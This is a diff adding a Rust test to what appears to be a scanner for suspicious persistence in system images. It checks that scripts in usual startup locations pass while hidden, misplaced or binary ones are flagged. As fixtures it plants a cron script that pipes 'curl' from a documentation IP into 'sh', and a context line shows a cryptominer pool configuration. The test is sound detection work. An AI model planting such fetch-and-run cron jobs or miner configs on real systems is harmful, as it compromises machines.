@@ -85,6 +85,33 @@ fn what_starts_by_itself_in_an_image_is_judged() {
 }
 
 #[test]
+fn a_script_where_the_machine_looks_for_scripts_is_in_no_odd_place() {
+    let root = image();
+    let put = |path: &str, text: &str| {
+        write(root.path(), path, text);
+        fs::set_permissions(root.path().join(path), fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    let usual = ["etc/rc.local", "etc/cron.daily/backup", "etc/init.d/app", "etc/ppp/ip-up.d/x"];
+    for path in usual {
+        put(path, "#!/bin/sh\nexit 0\n");
+    }
+    let output = scan(&["--root", at(&root), "--json"]);
+    assert_eq!(output.status.code(), Some(0), "{output:?}");
+    // But no program, nothing hidden, and nothing where nobody looks for a script.
+    let odd = ["etc/cron.daily/p", "etc/cron.daily/.h", "etc/fonts/x"];
+    put(odd[0], "\x7fELF");
+    put(odd[1], "#!/bin/sh\nexit 0\n");
+    put(odd[2], "#!/bin/sh\nexit 0\n");
+    put("etc/cron.daily/m", "#!/bin/sh\ncurl -s http://192.0.2.1/a.sh | sh\n");
+    let value = value(&scan(&["--root", at(&root), "--json"]));
+    let found = value["findings"].as_array().unwrap();
+    let has = |path: &str| found.iter().any(|it| it["subject"]["path"] == format!("/{path}"));
+    assert!(odd.iter().all(|path| has(path)), "{value}");
+    assert!(value.to_string().contains("/etc/cron.daily/m"), "{value}");
+    assert!(!usual.iter().any(|path| has(path)), "{value}");
+}
+
+#[test]
 fn files_that_lie_in_an_image_are_judged_by_what_they_say_and_where_they_lie() {
     let root = image();
     let config = r#"{"pools":[{"url":"stratum+tcp://pool.example:3333","user":"w1"}],"cpu":{"huge-pages":true},"donate-level":1}"#;
